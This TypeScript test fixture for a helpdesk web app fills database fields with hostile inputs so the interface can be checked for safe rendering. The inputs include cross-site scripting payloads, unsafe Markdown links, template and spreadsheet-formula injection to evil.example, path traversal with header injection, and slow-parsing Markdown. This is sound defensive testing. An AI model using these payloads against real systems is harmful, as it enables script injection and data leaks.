import path from 'node:path'
import Sqlite from 'better-sqlite3'
import { ACCOUNTS } from './demo-company.ts'

/**
 * Texts of every kind that something on their way could take for more than a text. What gets into a
 * page by one of them has the class `injected`, or sets `injected` on the window.
 */
export const HOSTILE_TEXTS = [
  '<script class="injected">window.injected = 1</script>',
  '<img class="injected" src="http://evil.example/x.png" onerror="window.injected = 1">',
  '"><svg class="injected" onload="window.injected = 1"><foreignObject>',
  `' autofocus onfocus='window.injected = 1' x='`,
  '</title></textarea></style></script><b class="injected">bold</b>',
  '<style class="injected">* { display: none !important }</style>',
  '<iframe class="injected" srcdoc="<script>parent.injected = 1</script>"></iframe>',
  '<a class="injected" href="javascript:window.injected = 1">here</a>',
  'javascript:window.injected=1',
  'data:text/html,<script>window.injected = 1</script>',
  '{{constructor.constructor("window.injected = 1")()}} #{7*7} <%= 7*7 %>',
  '*{color:red} url(http://evil.example/x.css) expression(window.injected=1)',
  '&lt;b class=injected&gt; &amp;amp; &#60;script&#62; \\u003cscript\\u003e',
  '[here](javascript:window.injected=1) **bold** ![x](http://evil.example/x.png)',
  '=HYPERLINK("http://evil.example/?"&A1,"Click") @SUM(1) +1 -1',
  'Ann \u202Egnp.exe\u202C \u2066left\u2069 \u200Fright',
  '\u001b[31mred\u001b[0m \u0007 \u0000 \u007f',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031Ealgo',
  '%s %d %c %o #{window.injected=1} __proto__ constructor null undefined',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467} \ud800 alone'.toWellFormed(),
  'x'.repeat(100),
  '../../../etc/passwd\r\nSet-Cookie: injected=1'
] as const

/** Texts in Markdown that ask for what the reader of Markdown must not give. */
const HOSTILE_MARKDOWN = [
  '[a](javascript:window.injected=1) [b](JaVa&#115;cript:window.injected=1) [c](&#1;javascript:x)',
  '[d](data:text/html,<script>window.injected=1</script>) [e](file:///etc/passwd) [f](vbscript:x)',
  'See [g](//evil.example/x) [h](/api/logout) [i](\\\\evil.example) [j](#injected) [k](https:evil)',
  '<javascript:window.injected=1> <data:text/html,x> <http://evil.example/auto>',
  'See ![x](http://evil.example/x.png) ![y](data:image/svg+xml,<svg/onload=window.injected=1>) ![z][w]',
  '[w]: http://evil.example/w.png\n\n[![n](http://evil.example/n.png)](javascript:window.injected=1)',
  '[ref] [ref][] [m][ref]\n\n[ref]: javascript:window.injected=1 "title"',
  '<script class="injected">window.injected = 1</script>\n\n<img class="injected" src="x">',
  '<details class="injected" open ontoggle="window.injected=1">\n\n**bold** <b class="injected">b</b>',
  '<a class="injected" href="javascript:window.injected=1">\n\n`<i class="injected">`\n\n</a>',
  '```html class="injected"\n<iframe class="injected" srcdoc="<script>1</script>"></iframe>\n```',
  '|<b class="injected">|[x](javascript:x)|\n|-|-|\n|![x](http://evil.example/t.png)|`<i>`|',
  '[^1] [^__proto__]\n\n[^1]: <b class="injected">\n\n[__proto__]: javascript:x\n\n[constructor]',
  '- [x] <input class="injected" autofocus onfocus="window.injected=1">',
  '<!-- <b class="injected"> --> <?x <b class="injected"> ?> <![CDATA[<b class="injected">]]>',
  `See [x](http://evil.example/"onfocus="window.injected=1) [y](http://evil.example/ '" class="injected')`,
  'mailto:a@evil.example and b@evil.example'
] as const

/** The longest texts there may be, which a careless reader of Markdown reads for many seconds. */
const SLOW_MARKDOWN = [
  '> '.repeat(5000),
  '* - + '.repeat(1666),
  '1. '.repeat(3333),
  `${'> '.repeat(500)}a\n${'a\n'.repeat(4400)}`,
  '**a '.repeat(1250) + 'b** '.repeat(1250),
  '!['.repeat(2500) + '](x)'.repeat(1200),
  `${'|a'.repeat(1250)}|\n${'|-'.repeat(1250)}|\n${'|\n'.repeat(2400)}`,
  '['.repeat(5000) + ']'.repeat(5000),
  '**_~~'.repeat(2000)
] as const

/** The ticket in whose conversation {@link SLOW_MARKDOWN} is. */
export const SLOW_TICKET = 10

/** As a field takes it that is no longer than so many characters. */
function hostileText(number: number, longest = 100): string {
  return (HOSTILE_TEXTS[number % HOSTILE_TEXTS.length] ?? '').slice(0, longest).trim()
}

/**
 * The description of every ticket that has all of them in it, such as the one whose page is looked
 * at.
 */
const ALL_TEXTS = HOSTILE_TEXTS.join('\n')

/** Whose full name is markup; the other accounts have others. */
const HOSTILE_NAME = hostileText(1)

/**
 * Writes a hostile text into every field of the demo company that people write, while no server
 * works with it. Usernames of the accounts, the role that gives rights and the first words that
 * tests look for stay.
 */
export function makeHostile(dataDir: string): void {
  const database = new Sqlite(path.join(dataDir, 'helpdesk.db'))
  database.function('hostile', (number, longest) => hostileText(Number(number), Number(longest)))
  const accounts = Object.values(ACCOUNTS).map(({ username }) => username)
  const known = accounts.map(() => '?').join()
  database.transaction(() => {
    database
      .prepare(`UPDATE users SET full_name = hostile(id, 100), initials = hostile(id, 2)`)
      .run()
    database
      .prepare(`UPDATE users SET username = hostile(id + 7, 50) || id, email = hostile(id + 9, 50) || id,
        role = hostile(id + 11, 100) WHERE username NOT IN (${known}) AND role <> 'IT Support Specialist'`)
      .run(accounts)
    database.prepare(`UPDATE users SET full_name = ? WHERE username = 'elena'`).run(HOSTILE_NAME)
    database
      .prepare('UPDATE tickets SET description = ?, search_text = ? WHERE id % 3 = 1')
      .run(ALL_TEXTS, ALL_TEXTS.toUpperCase())
    database
      .prepare(
        `UPDATE tickets SET department = hostile(id, 100) WHERE id % 3 = 2 AND department <> 'Logistics'`
      )
      .run()
    database.prepare('UPDATE comments SET message = hostile(id, 10000)').run()
    const comment = database.prepare(
      `INSERT INTO comments (ticket_id, user_id, message, created_at, format)
        VALUES (?, 1, ?, 1772600820000, 'markdown')`
    )
    for (const message of HOSTILE_MARKDOWN) comment.run(7, message)
    for (const message of SLOW_MARKDOWN) comment.run(SLOW_TICKET, message)
    database
      .prepare(`UPDATE tickets SET description = ?, format = 'markdown' WHERE id = ?`)
      .run(HOSTILE_MARKDOWN.join('\n\n'), SLOW_TICKET)
    database
      .prepare(`UPDATE categories SET name = CASE slug WHEN 'hardware' THEN 'Hardware ' ELSE '' END || hostile(id, 90),
        description = hostile(id + 1, 1000)`)
      .run()
    database.prepare(`UPDATE categories SET department = hostile(id, 100) WHERE id % 4 = 3`).run()
    database
      .prepare(
        'UPDATE subcategories SET name = hostile(id, 100), description = hostile(id + 3, 1000)'
      )
      .run()
  })()
  database.close()
}
